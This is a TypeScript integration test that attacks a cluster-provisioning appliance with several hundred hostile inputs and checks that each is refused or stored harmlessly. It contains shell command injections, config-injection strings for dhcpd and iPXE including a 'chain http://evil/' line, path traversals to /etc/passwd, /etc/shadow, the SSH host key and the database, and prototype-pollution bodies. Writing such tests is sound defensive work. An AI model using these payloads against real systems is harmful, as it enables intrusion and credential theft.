// Hostile input against the real appliance, through nginx: several hundred names, attribute keys and
// values, cmdlines, power URIs, net fields, raw URL paths, malformed and oversized bodies, cluster.conf
// texts and `@file` arguments of the tools. Each is refused (4xx) or stored verbatim; afterwards no
// marker of any of them is in a generated config, no file was made by a shell outside the storage,
// dhcpd accepts its generated config and every daemon still runs.
import test from 'ava';
import { execa } from 'execa';
import { existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync, type Dirent } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { ApiClient, ApiError, type TokenCache } from '../../src/tools/common/client/api-client.js';
import { AdminSession, ctl, health, sh, startOnTestBridge, tempDir, waitFor } from './helpers.js';

process.env.DOCKER_HOST = 'unix:///var/run/docker.sock';

const NET = 'cwho0';
const SUBNET = '10.213.30.0/24';
const HEAD_IP = '10.213.30.10';
const NAME = 'cwit-hostile';
const BASE_URL = `https://${HEAD_IP}/api/v1`;
const N0_MAC = '52:54:00:7d:00:01';
const BASE_CONF = `iprange 10.213.30.100/24\nnode ${N0_MAC}\nnode 52:54:00:7d:00:02\n`;
/** Every hostile value carries this marker (with a number), so it can be looked for wherever it may land. */
const MARK = 'cwpwn';
/** A `$(touch ...)` or backtick that ran in a shell would leave a file with this prefix in /tmp. */
const PWNED = '/tmp/cw-hostile-pwned-';

const top = tempDir('cwho');
const storage = join(top, 'cw_container_storage');
const home = tempDir('cwho-home');
const admin = new AdminSession(home, BASE_URL);
const tokens: TokenCache = new Map();
let api: ApiClient;

async function cleanup(): Promise<void> {
  await api?.close().catch(() => {});
  await sh('docker', ['rm', '-f', NAME], { reject: false });
  await sh('docker', ['network', 'rm', NET], { reject: false });
  admin.close();
}

// -----------------------------------------------------------------------------------------------------
// The inputs.

let serial = 0;
const mark = () => `${MARK}${++serial}`;

/** One hostile value per family member; `m` is the marker it carries. */
function hostileValues(): string[] {
  const families: ((m: string) => string)[] = [
    // shell metacharacters
    (m) => `${m};id`,
    (m) => `$(touch ${PWNED}${m})`,
    (m) => `\`touch ${PWNED}${m}\``,
    (m) => `${m}|id`,
    (m) => `${m} && touch ${PWNED}${m}`,
    (m) => `${m}\nid`,
    (m) => `${m}\rid`,
    (m) => `${m}\0id`,
    (m) => `${m}\x1b[31m`,
    // paths
    (m) => `../../${m}`,
    (m) => `%2e%2e/${m}`,
    (m) => `..%2f${m}`,
    (m) => `/etc/${m}`,
    (m) => `${m}/${'a'.repeat(4096)}`,
    // config injection (dhcpd, nginx, iPXE)
    (m) => `${m}"; } host x { hardware ethernet 52:54:00:66:66:66; }`,
    (m) => `${m} # x`,
    (m) => `${m}{`,
    (m) => `${m}}`,
    (m) => `${m}\n option domain-name-servers 10.213.30.66;`,
    (m) => `${m}\${net0/mac}`,
    (m) => `${m}\nchain http://evil/`,
    (m) => `${m} include "/etc/shadow";`,
    // unicode: bidi, zero-width, BOM, line separator, lone surrogate
    (m) => `${m}\u202e`,
    (m) => `${m}\u200b`,
    (m) => `${m}\ufeff`,
    (m) => `${m}\u2028`,
    (m) => `${m}\ud800`,
    (m) => `${m}é`,
    // huge
    (m) => `${m}${'x'.repeat(64 * 1024)}`,
  ];
  return families.map((f) => f(mark()));
}

type Outcome = 'refused' | 'verbatim' | 'answered';
interface Record_ {
  what: string;
  outcome: Outcome;
}
const results: Record_[] = [];
const problems: string[] = [];
/** Markers of the inputs that were accepted (legitimately, e.g. `/etc/x` in a cmdline): allowed in a node's iPXE script. */
const acceptedMarks = new Set<string>();
const marksIn = (v: unknown) => [...JSON.stringify(v).matchAll(new RegExp(`${MARK}\\d+`, 'g'))].map((m) => m[0]);

const show = (v: string) => JSON.stringify(v.length > 80 ? `${v.slice(0, 80)}...` : v);

/**
 * One API write with a hostile value: a 4xx refusal, or success where `stored(data)` says the value
 * was kept exactly as sent. A 5xx, a transport failure or a changed value is a problem.
 */
async function tryWrite(what: string, method: 'POST' | 'PATCH' | 'PUT', path: string, body: unknown, stored: (data: unknown) => boolean): Promise<void> {
  try {
    const data = await api.request<unknown>(method, path, { body });
    for (const m of marksIn(body)) acceptedMarks.add(m);
    if (stored(data)) results.push({ what, outcome: 'verbatim' });
    else problems.push(`${what}: accepted but not stored verbatim: ${JSON.stringify(data).slice(0, 300)}`);
  } catch (err) {
    if (err instanceof ApiError && err.status >= 400 && err.status < 500) results.push({ what, outcome: 'refused' });
    else problems.push(`${what}: ${err instanceof ApiError ? `HTTP ${err.status} ` : ''}${(err as Error).message.slice(0, 300)}`);
  }
}

interface RawAnswer {
  status: number;
  body: string;
  /** The socket's error code when there was no answer (ECONNRESET...). */
  error?: string;
}

/** One HTTP/1.1 exchange on a fresh TCP connection to nginx, the path sent byte for byte as given. */
function raw(method: string, path: string | Buffer, headers: Record<string, string> = {}, body?: Buffer): Promise<RawAnswer> {
  return new Promise((resolve) => {
    const socket = connect({ host: HEAD_IP, port: 80 });
    const chunks: Buffer[] = [];
    let done = false;
    let error: string | undefined;
    const finish = () => {
      if (done) return;
      done = true;
      socket.destroy();
      const text = Buffer.concat(chunks).toString('latin1');
      const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(text)?.[1] ?? 0);
      const split = text.indexOf('\r\n\r\n');
      const head = text.slice(0, split);
      const rest = text.slice(split + 4);
      resolve({ status, body: /^transfer-encoding: *chunked/im.test(head) ? dechunk(rest) : rest, ...(error === undefined ? {} : { error }) });
    };
    socket.setTimeout(60_000, finish);
    socket.on('data', (c: Buffer) => chunks.push(c));
    socket.on('end', finish);
    socket.on('close', finish);
    socket.on('error', (err: NodeJS.ErrnoException) => {
      error = err.code ?? err.message;
      finish();
    });
    socket.on('connect', () => {
      const head = [`${method} `, path, ` HTTP/1.1\r\nHost: ${HEAD_IP}\r\nConnection: close\r\n`];
      for (const [k, v] of Object.entries({ ...headers, ...(body ? { 'Content-Length': String(body.length) } : {}) })) head.push(`${k}: ${v}\r\n`);
      head.push('\r\n');
      socket.write(Buffer.concat(head.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : p))));
      // No half-close after the request: nginx takes a client's FIN as an abort of a proxied request.
      if (body) socket.write(body);
    });
  });
}

/** The body of a chunked HTTP/1.1 answer (the suite reads answers raw, see `raw`). */
function dechunk(text: string): string {
  let out = '';
  let at = 0;
  for (;;) {
    const eol = text.indexOf('\r\n', at);
    const size = eol < 0 ? 0 : parseInt(text.slice(at, eol), 16);
    if (!size) return out;
    out += text.slice(eol + 2, eol + 2 + size);
    at = eol + 2 + size + 2;
  }
}

function bearer(): Record<string, string> {
  const cached = tokens.get(`${BASE_URL}\nalice`);
  if (!cached) throw new Error('no token cached');
  return { Authorization: `Bearer ${cached.token}` };
}

/** What a path request may never answer with: files from outside the served directories. */
function leaked(body: string): string | undefined {
  if (body.includes('SQLite format 3')) return 'the database';
  if (/^root:/m.test(body)) return 'a passwd/shadow file';
  if (body.includes('BEGIN OPENSSH PRIVATE KEY')) return 'a private key';
  return undefined;
}

/** The renderer's own labels and jumps (its failover to another head), and its own uses of `${…}` and `||`. */
const OWN_IPXE_LINES = [':failed', ':failover', ':failover_dhcp', ':failover_wait', 'goto failover_dhcp'];
const OWN_IPXE_TOKENS = [/ \|\| goto (?:failed|failover|failover_wait)$/, /\$\{netX\/(?:mac|next-server)\}/g];

/**
 * An iPXE script that echoes what it was asked for only in a harmless form: lines iPXE reads as
 * `echo`, `sleep`, `chain` and `dhcp` commands and the renderer's own failover labels and jumps, none of
 * the characters iPXE or a shell would interpret besides the renderer's own.
 */
function ipxeSafe(script: string): boolean {
  const lines = script.split('\n');
  if (lines[0] !== '#!ipxe') return false;
  return lines.slice(1).every((raw) => {
    if (raw === '' || OWN_IPXE_LINES.includes(raw)) return true;
    let l = raw;
    for (const token of OWN_IPXE_TOKENS) l = l.replace(token, '');
    return /^(echo|sleep|chain|dhcp) /.test(l) && !/[$;&|`"'{}#\\<>\x00-\x1f\x7f-\uffff]/.test(l);
  });
}

// -----------------------------------------------------------------------------------------------------

test.before(async () => {
  await cleanup();
  await startOnTestBridge({ name: NAME, net: NET, subnet: SUBNET, headIp: HEAD_IP, storage, admin });
  api = new ApiClient({ baseUrl: BASE_URL, user: 'alice', sslVerify: admin.sslVerify, env: { SSH_AUTH_SOCK: admin.agentSock }, tokens, timeoutMs: 60_000 });
  await waitFor(async () => (await health('docker', NAME).catch(() => undefined))?.status === 'healthy', 120_000, 500);
  // A small cluster, so dhcpd.conf has hosts and a subnet the hostile values could try to get into.
  await api.post('/cluster/conf', { text: BASE_CONF });
  await api.post('/attribs', { name: 'hbase', description: 'baseline' });
  await api.post('/bootconfigs', { name: 'hboot', cmdline: 'quiet' });
  await api.post('/images', { name: 'himage' });
  await api.patch('/node/n0', { groups: ['hbase'], attributes: { _boot_config: 'hboot' } });
});

test.after.always(async () => {
  await cleanup();
  await sh('rm', ['-rf', top, home], { reject: false });
});

test('hostile input is refused or stored verbatim, never reaches a config, a shell or a path outside the storage', async (t) => {
  const restartsBefore = Object.fromEntries(Object.entries((await health('docker', NAME)).services).map(([k, v]) => [k, v.restarts]));
  const verbatim = (field: string, value: unknown) => (data: unknown) => (data as Record<string, unknown>)[field] === value;
  const attr = (key: string, value: string) => (data: unknown) => (data as { attributes: Record<string, string> }).attributes[key] === value;

  // Names, keys and values of every writable kind.
  for (const v of hostileValues()) await tryWrite(`attrib name ${show(v)}`, 'POST', '/attribs', { name: v }, verbatim('name', v));
  for (const v of hostileValues()) await tryWrite(`attrib key ${show(v)}`, 'PATCH', '/attrib/hbase', { attributes: { [v]: 'x' } }, attr(v, 'x'));
  for (const v of hostileValues()) await tryWrite(`attrib value ${show(v)}`, 'PATCH', '/attrib/hbase', { attributes: { hv: v } }, attr('hv', v));
  for (const v of hostileValues()) await tryWrite(`attrib description ${show(v)}`, 'PATCH', '/attrib/hbase', { description: v }, verbatim('description', v));
  for (const v of hostileValues()) await tryWrite(`group _cmdline ${show(v)}`, 'PATCH', '/attrib/hbase', { attributes: { _cmdline: v } }, attr('_cmdline', v));
  for (const v of hostileValues()) await tryWrite(`node key ${show(v)}`, 'PATCH', '/node/n0', { attributes: { [v]: 'x' } }, attr(v, 'x'));
  for (const v of hostileValues()) await tryWrite(`node value ${show(v)}`, 'PATCH', '/nodes', { ids: 'n0', set: { hv: v } }, (d) => attr('hv', v)((d as unknown[])[0]));
  for (const v of hostileValues()) await tryWrite(`node _cmdline ${show(v)}`, 'PATCH', '/node/n0', { attributes: { _cmdline: v } }, attr('_cmdline', v));
  for (const v of hostileValues()) await tryWrite(`node _boot_config ${show(v)}`, 'PATCH', '/node/n0', { attributes: { _boot_config: v } }, attr('_boot_config', v));
  for (const v of hostileValues()) await tryWrite(`power_uri ${show(v)}`, 'PATCH', '/node/n0', { power_uri: `ipmi://${v}` }, verbatim('power_uri', `ipmi://${v}`));
  for (const v of hostileValues()) await tryWrite(`node type ${show(v)}`, 'PATCH', '/node/n0', { type: v }, verbatim('type', v));
  for (const v of hostileValues()) await tryWrite(`node mac ${show(v)}`, 'POST', '/nodes', { mac: v }, verbatim('mac', v));
  for (const v of hostileValues()) await tryWrite(`bootconfig cmdline ${show(v)}`, 'PATCH', '/bootconfig/hboot', { cmdline: `quiet ${v}` }, verbatim('cmdline', `quiet ${v}`));
  for (const v of hostileValues()) await tryWrite(`bootconfig name ${show(v)}`, 'POST', '/bootconfigs', { name: v }, verbatim('name', v));
  for (const v of hostileValues()) await tryWrite(`bootconfig release ${show(v)}`, 'PATCH', '/bootconfig/hboot', { release: v }, verbatim('release', v));
  for (const v of hostileValues()) await tryWrite(`image name ${show(v)}`, 'POST', '/images', { name: v }, verbatim('name', v));
  for (const v of hostileValues()) await tryWrite(`net name ${show(v)}`, 'POST', '/nets', { name: v, first: '10.213.31.200', last: '10.213.31.210', prefix: 24 }, verbatim('name', v));
  for (const [i, v] of hostileValues().entries()) await tryWrite(`net gateway ${show(v)}`, 'POST', '/nets', { name: `hnet${i}`, first: `10.214.${i}.10`, prefix: 24, gateway: v }, verbatim('gateway', v));
  for (const [i, v] of hostileValues().entries()) await tryWrite(`repo url ${show(v)}`, 'POST', '/repos', { name: `hrepo${i}`, urls: [`http://x/${v}`] }, (d) => (d as { urls: string[] }).urls[0] === `http://x/${v}`);
  for (const v of hostileValues()) await tryWrite(`cluster_id ${show(v)}`, 'PATCH', '/cluster', { cluster_id: v }, () => true);

  // Wrong JSON types.
  const wrongTypes: [string, unknown][] = [
    ['name number', { name: 1 }],
    ['name null', { name: null }],
    ['name array', { name: ['a'] }],
    ['name object', { name: { $ne: 1 } }],
    ['name bool', { name: true }],
    ['attributes string', { name: 'hwt1', attributes: 'x' }],
    ['attributes array', { name: 'hwt2', attributes: ['x'] }],
    ['attribute number', { name: 'hwt3', attributes: { a: 1 } }],
    ['attribute object', { name: 'hwt4', attributes: { a: { b: 'c' } } }],
    ['priority string', { name: 'hwt5', priority: '1' }],
    ['priority float', { name: 'hwt6', priority: 1.5 }],
    ['priority huge', { name: 'hwt7', priority: 2 ** 60 }],
    ['unknown field', { name: 'hwt8', [`x${mark()}`]: 'y' }],
    ['__proto__', JSON.parse(`{"name":"hwt9","__proto__":{"polluted":"${mark()}"}}`) as unknown],
    ['constructor', { name: 'hwt10', constructor: { prototype: { polluted: mark() } } }],
  ];
  for (const [what, body] of wrongTypes) {
    await tryWrite(`attrib ${what}`, 'POST', '/attribs', body, (d) => {
      const o = d as Record<string, unknown>;
      return typeof o.name === 'string' && !JSON.stringify(o).includes(MARK);
    });
  }
  for (const [what, body] of [
    ['array body', []],
    ['null body', null],
    ['string body', 'x'],
    ['bulk of garbage', [{ mac: 1 }, { index: -1 }]],
    ['index negative', { index: -1 }],
    ['index string', { index: '1' }],
    ['macs not list', { macs: 'x' }],
    ['groups object', { groups: { a: 1 } }],
  ] as [string, unknown][]) {
    await tryWrite(`node ${what}`, 'POST', '/nodes', body, () => false);
  }

  // Malformed and oversized bodies, sent raw with the admin's token.
  await api.get('/nodes');
  const json = { ...bearer(), 'Content-Type': 'application/json' };
  const malformed: [string, Buffer, Record<string, string>][] = [
    ['truncated', Buffer.from('{"name":'), json],
    ['open brace', Buffer.from('{'), json],
    ['trailing garbage', Buffer.from(`{"name":"hmf1"} ${mark()}`), json],
    ['single quotes', Buffer.from(`{'name':'${mark()}'}`), json],
    ['NaN', Buffer.from('{"name":"hmf2","priority":NaN}'), json],
    ['1e999', Buffer.from('{"name":"hmf3","priority":1e999}'), json],
    ['duplicate keys', Buffer.from(`{"name":"hmf4","name":"${mark()};id"}`), json],
    ['binary', Buffer.from([0xff, 0xfe, 0x00, 0x7b, 0x80, 0xc0, 0xae]), json],
    ['invalid UTF-8 in string', Buffer.concat([Buffer.from('{"name":"hmf5'), Buffer.from([0xc0, 0xae, 0xff]), Buffer.from('"}')]), json],
    ['NUL in string', Buffer.from(`{"name":"${mark()}\u0000x"}`), json],
    ['deep nesting', Buffer.from(`{"name":"hmf6","attributes":${'['.repeat(100_000)}${']'.repeat(100_000)}}`), json],
    ['text/plain', Buffer.from(`{"name":"${mark()};id"}`), { ...bearer(), 'Content-Type': 'text/plain' }],
    ['form', Buffer.from(`name=${mark()}%3Bid`), { ...bearer(), 'Content-Type': 'application/x-www-form-urlencoded' }],
    ['xml', Buffer.from(`<name>${mark()}</name>`), { ...bearer(), 'Content-Type': 'application/xml' }],
    ['no content type', Buffer.from(`{"name":"${mark()};id"}`), bearer()],
    ['65 MiB', Buffer.alloc(65 * 1024 * 1024, 0x20), json],
    ['65 MiB of one string', Buffer.concat([Buffer.from('{"name":"'), Buffer.alloc(65 * 1024 * 1024, 0x61), Buffer.from('"}')]), json],
    ['many keys', Buffer.from(`{"name":"hmf7","attributes":{${Array.from({ length: 5000 }, (_, i) => `"k${i}":"v"`).join(',')}}}`), json],
    ['anonymous 1 MiB challenge', Buffer.alloc(1024 * 1024, 0x7b), { 'Content-Type': 'application/json' }],
    ['anonymous malformed token', Buffer.from(`{"user":"${mark()}\\u0000","signature":{}}`), { 'Content-Type': 'application/json' }],
  ];
  for (const [i, [what, body, headers]] of malformed.entries()) {
    const path = what.startsWith('anonymous') ? (what.includes('token') ? '/api/v1/auth/token' : '/api/v1/auth/challenge') : '/api/v1/attribs';
    const answer = await raw('POST', path, headers, body);
    // A body over the route's limit is refused by nginx itself (64 MiB on JSON routes, 16 KiB on the
    // anonymous ones), with 413 in the API's envelope, never a 502.
    if (body.length > 64 * 1024 * 1024 || (what.startsWith('anonymous') && body.length > 16 * 1024)) {
      if (answer.status === 413 && answer.body.includes('"success":false')) results.push({ what: `body ${what} (413)`, outcome: 'refused' });
      else problems.push(`body ${what} (#${i}): HTTP ${answer.status} ${answer.error ?? ''} ${answer.body.slice(0, 200)}, not 413`);
    }
    else if (answer.status >= 400 && answer.status < 500) results.push({ what: `body ${what}`, outcome: 'refused' });
    else if (answer.status === 0 && (answer.error === 'ECONNRESET' || answer.error === 'EPIPE')) results.push({ what: `body ${what} (cut off)`, outcome: 'refused' });
    else if (answer.status === 201 && !answer.body.includes(MARK)) results.push({ what: `body ${what}`, outcome: 'verbatim' });
    else problems.push(`body ${what} (#${i}): HTTP ${answer.status} ${answer.body.slice(0, 200)}`);
  }

  // Raw URL paths: traversal, encoded dots and slashes, NUL, overlong segments, overlong UTF-8.
  const segments = [
    '..',
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '%2e%2e/%2e%2e/%2e%2e/etc/passwd',
    '%2e%2e%2f%2e%2e%2fdb%2fcw.sqlite',
    '..%252f..%252fdb%252fcw.sqlite',
    '....//....//db/cw.sqlite',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/db/cw.sqlite',
    '..\\..\\db\\cw.sqlite',
    '../db/cw.sqlite',
    '../secrets/db-password',
    '../ssh/ssh_host_ed25519_key',
    `${MARK}%00.img`,
    `${MARK}\u0000.img`,
    `${MARK}%0a%0dSet-Cookie:x=1`,
    `${MARK}${'a'.repeat(4096)}`,
    `${'a/'.repeat(2048)}${MARK}`,
    `${MARK}%20%3B%20id`,
    `${MARK}$(id)`,
    `%252e%252e%252f${MARK}`,
  ];
  const prefixes = ['/api/v1/node/', '/api/v1/attrib/', '/api/v1/boot/ipxe/', '/boot/', '/images/', '/api/v1/../../'];
  for (const prefix of prefixes) {
    for (const seg of segments) {
      const path = Buffer.concat([Buffer.from(prefix), Buffer.from(seg, 'latin1')]);
      const answer = await raw('GET', path, prefix.startsWith('/api/v1/') && !prefix.includes('boot') ? bearer() : {});
      const what = `GET ${prefix}${show(seg)}`;
      const leak = leaked(answer.body);
      if (leak) problems.push(`${what}: HTTP ${answer.status} with ${leak}`);
      else if (answer.status >= 400 && answer.status < 500) results.push({ what, outcome: 'refused' });
      // `/boot/..` is `/` once nginx has resolved the dots: its one-line greeting.
      else if (answer.status === 200 && prefix === '/api/v1/boot/ipxe/' && !ipxeSafe(answer.body)) problems.push(`${what}: unsafe iPXE script:\n${answer.body}`);
      else if (answer.status === 200 && (prefix === '/api/v1/boot/ipxe/' || answer.body === 'cw-headnode\n')) results.push({ what, outcome: 'answered' });
      else problems.push(`${what}: HTTP ${answer.status} ${answer.body.slice(0, 200)}`);
    }
  }

  // cluster.conf texts: the baseline with one hostile line, and whole files that are no cluster.conf.
  const confLines = [
    ...hostileValues().map((v) => `node ${v}`),
    ...hostileValues().map((v) => `iprange ${v}`),
    `nodes 99999999999 # ${mark()}`,
    `iprange 0.0.0.0/0 ${mark()}`,
    `iprange 10.213.30.100/33 ${mark()}`,
    `iprange 10.213.30.100/24 10.213.30.1 ${mark()}`,
    `node 52:54:00:7d:00:01 ${mark()}`,
    `node 52:54:00:7d:00:09; } host x { # ${mark()}`,
    `${mark()}`,
  ];
  const confs = [
    ...confLines.map((l) => `${BASE_CONF}${l}\n`),
    `\0${mark()}`,
    `${'#'.repeat(64)}\n${'x'.repeat(17 * 1024 * 1024)}${mark()}`,
    `iprange 10.213.30.100/24\n${'node\n'.repeat(50_000)}${mark()}`,
    `\ufeff\ufeff${BASE_CONF}${mark()}`,
    BASE_CONF.replace(/\n/g, `\r${mark()}\r`),
  ];
  for (const text of confs) {
    await tryWrite(`cluster.conf ${show(text.slice(BASE_CONF.length - 10))}`, 'POST', '/cluster/conf', { text }, () => true);
  }
  // Put the baseline back in case one was accepted (a comment after a valid line, say).
  await api.post('/cluster/conf', { text: BASE_CONF });

  // `@file` arguments of the tools, from a directory of their own.
  const work = join(home, 'work');
  mkdirSync(work);
  writeFileSync(join(work, 'evil-name'), `${mark()}"; } host x {\n`);
  writeFileSync(join(work, 'evil-cmdline'), `quiet $(touch ${PWNED}${mark()})`);
  await sh('mkfifo', [join(work, 'fifo')]);
  symlinkSync('/dev/zero', join(work, 'zero-link'));
  mkdirSync(join(work, 'dir'));
  await sh('truncate', ['-s', '3M', join(work, 'sparse')]);
  // A /proc file reads as its stat size, 0: an empty description, nothing of the process's memory.
  const emptyDescription = async () => (await api.get<{ description: string }>('/attrib/hf5')).description === '';
  const toolRuns: [string, string[], (() => Promise<boolean>)?][] = [
    ['attribctl', ['create', 'name=@/dev/zero']],
    ['attribctl', ['create', 'name=@/etc/shadow']],
    ['attribctl', ['create', 'name=@../../x']],
    ['attribctl', ['create', 'name=@evil-name']],
    ['attribctl', ['create', 'name=hf1', 'description=@fifo']],
    ['attribctl', ['create', 'name=hf2', 'description=@zero-link']],
    ['attribctl', ['create', 'name=hf3', 'description=@dir']],
    ['attribctl', ['create', 'name=hf4', 'description=@sparse']],
    ['attribctl', ['create', 'name=hf5', 'description=@/proc/self/mem'], emptyDescription],
    ['attribctl', ['-i', 'hbase', 'set', 'hv=@/dev/urandom']],
    ['bootctl', ['create', 'name=hf6', 'cmdline=@evil-cmdline']],
    ['bootctl', ['create', 'name=hf7', 'kernel=@/dev/zero']],
    ['bootctl', ['create', 'name=hf8', 'kernel=@../../../nonexistent']],
    ['bootctl', ['create', 'name=hf9', 'initramfs=@fifo']],
    ['imgctl', ['create', 'name=hf10', '--content', '@/dev/zero']],
    ['nodectl', ['create', '--content', '@fifo']],
    ['nodectl', ['-i', 'n0', 'set', `_cmdline=@evil-cmdline`]],
    ['cluster-conf', ['load', '/dev/zero']],
    ['cluster-conf', ['load', join(work, 'fifo')]],
    ['cluster-conf', ['load', '../../../../etc/shadow']],
  ];
  for (const [tool, args, accepted] of toolRuns) {
    const r = await execa('node', [join(import.meta.dirname, '../../dist/tools', tool, 'main.js'), ...args], {
      reject: false,
      all: true,
      stdin: 'ignore',
      cwd: work,
      env: { HOME: home, SSH_AUTH_SOCK: admin.agentSock, CI: 'true', PATH: process.env.PATH ?? '/usr/bin:/bin' },
      extendEnv: false,
      timeout: 60_000,
    });
    const what = `cw-${tool} ${args.join(' ')}`;
    if (r.timedOut) problems.push(`${what}: hung`);
    else if (r.exitCode === 0 && accepted && (await accepted())) results.push({ what, outcome: 'verbatim' });
    else if (r.exitCode !== 0 && r.exitCode !== undefined && (r.all ?? '').includes('ERROR') && !(r.all ?? '').includes('cannot reach')) results.push({ what, outcome: 'refused' });
    else problems.push(`${what}: exit ${String(r.exitCode)} ${(r.all ?? '').slice(0, 300)}`);
  }

  // Nothing reached a generated config, ...
  const reached: string[] = [];
  await new Promise((r) => setTimeout(r, 5_000));
  const generated = join(storage, 'etc/generated');
  // Every generated file, those in subdirectories too (the DNS server's hosts and zones under dns/).
  const generatedFiles = (readdirSync(generated, { recursive: true, withFileTypes: true }) as Dirent[])
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath, e.name).slice(generated.length + 1));
  if (!generatedFiles.includes(join('dns', 'hosts', 'nodes'))) reached.push('no DNS hosts file was generated');
  for (const file of generatedFiles) {
    const text = readFileSync(join(generated, file), 'latin1');
    if (text.includes(MARK)) reached.push(`${file} holds a hostile marker`);
    if (/evil|host x|52:54:00:66:66:66|10\.213\.30\.66/.test(text)) reached.push(`${file} holds an injected line`);
  }
  if (!existsSync(join(generated, 'dhcpd.conf'))) reached.push('no dhcpd.conf was generated');
  const dhcpdTest = await sh('docker', ['exec', NAME, 'dhcpd', '-t', '-cf', '/var/lib/cw/etc/generated/dhcpd.conf'], { reject: false });
  if (dhcpdTest.exitCode !== 0) reached.push(`dhcpd -t refuses the generated dhcpd.conf: ${dhcpdTest.stderr}`);
  // ... or a node's iPXE script, ...
  for (const mac of [N0_MAC, '52:54:00:7d:00:02']) {
    const script = await raw('GET', `/api/v1/boot/ipxe/${mac}`);
    if (script.status !== 200) {
      const again = await fetch(`http://${HEAD_IP}/api/v1/boot/ipxe/${mac}`).then(async (r) => `${r.status} ${await r.text()}`, (e: unknown) => String(e));
      problems.push(`the iPXE script of ${mac}: HTTP ${script.status} ${script.error ?? ''} ${script.body}; fetch: ${again}`);
    }
    const foreign = marksIn(script.body).filter((m) => !acceptedMarks.has(m));
    if (foreign.length > 0 || /evil|host x/.test(script.body)) reached.push(`the iPXE script of ${mac} holds refused input:\n${script.body}`);
  }
  // ... no shell ran a hostile command, nothing was written outside the storage ...
  for (const f of readdirSync('/tmp')) if (f.startsWith('cw-hostile-pwned-') || f.includes(MARK)) reached.push(`host /tmp/${f}`);
  const inside = await sh('docker', ['exec', NAME, 'find', '/tmp', '/var/tmp', '/run', '/etc', '/root', '/var/lib/cw', '-xdev', '(', '-name', `*${MARK}*`, '-o', '-name', 'cw-hostile-pwned-*', ')'], {
    reject: false,
  });
  for (const f of inside.stdout.split('\n').filter(Boolean)) reached.push(`container ${f}`);
  // ... and no file in the storage has a name made of hostile input.
  const walk = (dir: string) => {
    for (const e of readdirSync(dir, { withFileTypes: true }) as Dirent[]) {
      if (e.name.includes('..') || e.name.includes(MARK) || /[^\x21-\x7e]/.test(e.name)) reached.push(`storage ${join(dir, e.name)}`);
      if (e.isDirectory()) walk(join(dir, e.name));
    }
  };
  walk(storage);
  const count = (o: Outcome) => results.filter((r) => r.outcome === o).length;
  const total = results.length + problems.length;
  t.log(
    `${total} hostile inputs: ${count('refused')} refused, ${count('verbatim')} stored verbatim, ${count('answered')} answered with a harmless iPXE script, ` +
      `${problems.length} problems; ${reached.length} reached a config, shell or outside path`,
  );
  for (const r of results.filter((x) => x.outcome !== 'refused')) t.log(`accepted: ${r.what}`);
  for (const p of [...problems, ...reached]) t.log(`PROBLEM: ${p}`);

  // The appliance is still whole: every daemon running, healthy, and a normal request works.
  const report = await health('docker', NAME);
  t.is(report.status, 'healthy', JSON.stringify(report));
  for (const [service, s] of Object.entries(report.services)) {
    t.is(s.state, 'ready', `${service}: ${JSON.stringify(s)}`);
    t.is(s.restarts, restartsBefore[service], `${service} restarted during the hostile input`);
  }
  const status = await ctl(['status', '--name', NAME]);
  t.is(status.exitCode, 0, status.all);
  const nodes = await api.get<{ name: string }[]>('/nodes');
  t.true(['n0', 'n1'].every((n) => nodes.some((x) => x.name === n)), JSON.stringify(nodes.map((n) => n.name)));
  const created = await api.post<{ name: string }>('/attribs', { name: 'hafter', description: 'still works' });
  t.is(created.name, 'hafter');

  t.deepEqual(problems, []);
  t.deepEqual(reached, []);
  t.true(total >= 300, `only ${total} inputs`);
});
